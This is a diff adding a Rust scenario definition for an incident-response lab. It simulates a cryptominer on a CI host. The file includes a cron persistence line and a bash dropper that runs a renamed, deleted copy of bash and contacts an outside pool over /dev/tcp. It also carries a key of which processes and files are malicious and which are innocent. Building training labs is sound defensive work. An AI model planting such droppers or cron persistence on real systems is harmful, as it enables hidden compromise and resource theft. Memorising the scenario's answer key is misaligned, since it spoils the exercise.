@@ -1,0 +1,156 @@
+//! A miner running from a deleted copy of bash, started from a user's
+//! crontab, a daemon whose parent is init.
+
+use super::{Entry, Innocent, Malicious, Proc, Scenario, Step, INIT};
+use crate::host::lab::topology::{Host, Segment};
+
+pub(super) static SCENARIO: Scenario = Scenario {
+    name: "deleted-miner",
+    summary: "a miner running from a deleted copy of bash in /dev/shm/.k, started from the deploy user's crontab, holding connections to a pool at 192.0.2.77:3333",
+    story: "On the CI host ci (10.40.0.15) the deploy user's crontab gained a line that runs \
+            /home/deploy/.cache/.kupd, a dropper that copies bash to /dev/shm/.k/kdevtmpfsi, \
+            starts it as a daemon (its parent is init) and deletes it. The miner logs in to \
+            192.0.2.77:3333 every few seconds. The crontab's other line (prune-artifacts) and \
+            deploy's build agent are legitimate.",
+    compromised: "ci",
+    victim: "192.0.2.77",
+    victim_port: 3333,
+    services: &["10.40.0.15:22", "10.40.0.15:8081"],
+    malicious: Malicious {
+        processes: &[Proc {
+            what: "the miner (a deleted copy of bash)",
+            pattern: "kdevtmpfsi",
+        }],
+        files: &[DM_DROPPER],
+        persistence: &[Entry {
+            what: "the deploy user's crontab line",
+            path: "/var/spool/cron/crontabs/deploy",
+            line: Some(DM_CRON_LINE),
+        }],
+        approval: &[],
+    },
+    innocent: Innocent {
+        processes: &[
+            INIT,
+            Proc {
+                what: "the CI service and sshd",
+                pattern: "lab serve --role ci",
+            },
+            Proc {
+                what: "deploy's build agent",
+                pattern: "/home/deploy/bin/build-agent.sh",
+            },
+        ],
+        files: &[
+            "/home/deploy/bin/prune-artifacts.sh",
+            "/home/deploy/bin/build-agent.sh",
+            "/etc/passwd",
+        ],
+        flows: &[],
+    },
+    segments: &[
+        Segment {
+            name: "build",
+            router_addr: "10.40.0.1/24",
+            router_mac: "02:42:0a:28:00:01",
+        },
+        Segment {
+            name: "internet",
+            router_addr: "192.0.2.1/24",
+            router_mac: "02:42:c0:00:02:01",
+        },
+    ],
+    hosts: &[
+        Host {
+            name: "analyst",
+            segment: Some("build"),
+            addr: "10.40.0.100/24",
+            mac: "02:42:0a:28:00:64",
+            serve: None,
+            what: "the responder's seat",
+        },
+        Host {
+            name: "ci",
+            segment: Some("build"),
+            addr: "10.40.0.15/24",
+            mac: "02:42:0a:28:00:0f",
+            serve: Some("ci"),
+            what: "CI host: ssh 22, http 8081 (Jenkins); runs the miner",
+        },
+        Host {
+            name: "pool",
+            segment: Some("internet"),
+            addr: "192.0.2.77/24",
+            mac: "02:42:c0:00:02:4d",
+            serve: Some("pool"),
+            what: "the mining pool (stratum 3333)",
+        },
+    ],
+    steps: &[
+        Step::Append {
+            path: "/etc/passwd",
+            content: "deploy:x:1001:1001:CI deploy:/home/deploy:/bin/bash\n",
+        },
+        Step::Append {
+            path: "/etc/group",
+            content: "deploy:x:1001:\n",
+        },
+        Step::Write {
+            path: "/home/deploy/bin/prune-artifacts.sh",
+            content: "#!/bin/sh\n# keep the last 20 builds\nls -1dt /home/deploy/builds/* 2>/dev/null | tail -n +21 | xargs -r rm -rf\n",
+            mode: 0o755,
+            owner: "1001:1001",
+        },
+        Step::Write {
+            path: "/home/deploy/bin/build-agent.sh",
+            content: "#!/bin/bash\n# waits for jobs from the CI master\nwhile true; do sleep 5; done\n",
+            mode: 0o755,
+            owner: "1001:1001",
+        },
+        Step::Write {
+            path: DM_DROPPER,
+            content: DM_DROPPER_TEXT,
+            mode: 0o700,
+            owner: "1001:1001",
+        },
+        Step::Write {
+            path: "/var/spool/cron/crontabs/deploy",
+            content: DM_CRONTAB,
+            mode: 0o600,
+            owner: "1001:1001",
+        },
+        Step::Run(&["chown", "1001:1001", "/home/deploy", "/home/deploy/bin", "/home/deploy/.cache"]),
+        Step::Start {
+            argv: &["/bin/bash", "/home/deploy/bin/build-agent.sh"],
+            user: Some("1001:1001"),
+        },
+        Step::Start {
+            argv: &["/bin/bash", DM_DROPPER, "192.0.2.77", "3333"],
+            user: Some("1001:1001"),
+        },
+        Step::WaitProc("kdevtmpfsi"),
+        Step::WaitGone("/dev/shm/.k/kdevtmpfsi"),
+    ],
+};
+
+const DM_DROPPER: &str = "/home/deploy/.cache/.kupd";
+const DM_CRON_LINE: &str =
+    "*/10 * * * * /bin/bash /home/deploy/.cache/.kupd 192.0.2.77 3333 >/dev/null 2>&1";
+const DM_CRONTAB: &str = concat!(
+    "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n",
+    "# (/tmp/crontab.Xy3k2A installed on Sat Nov 28 03:12:44 2026)\n",
+    "# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n",
+    "# m h  dom mon dow   command\n",
+    "*/20 * * * * /home/deploy/bin/prune-artifacts.sh >/dev/null 2>&1\n",
+    "*/10 * * * * /bin/bash /home/deploy/.cache/.kupd 192.0.2.77 3333 >/dev/null 2>&1\n",
+);
+/// Copies bash under a kernel-thread-like name, starts it as a daemon that
+/// logs in to the pool over /dev/tcp, then deletes the copy.
+const DM_DROPPER_TEXT: &str = r#"#!/bin/bash
+d=/dev/shm/.k
+mkdir -p "$d" && cp /bin/bash "$d/kdevtmpfsi" || exit 1
+loop='while :; do if exec 3<>/dev/tcp/'"$1/$2"'; then printf "{\"method\":\"login\",\"params\":{\"agent\":\"XMRig/6.21.0\"}}\n" >&3; read -r -t 4 -u 3 _; read -r -t 4 -u 3 _; exec 3>&-; else sleep 4; fi; done'
+(cd / && exec -a kdevtmpfsi "$d/kdevtmpfsi" -c "$loop" </dev/null >/dev/null 2>&1 &)
+sleep 1
+rm -f "$d/kdevtmpfsi"
+"#;
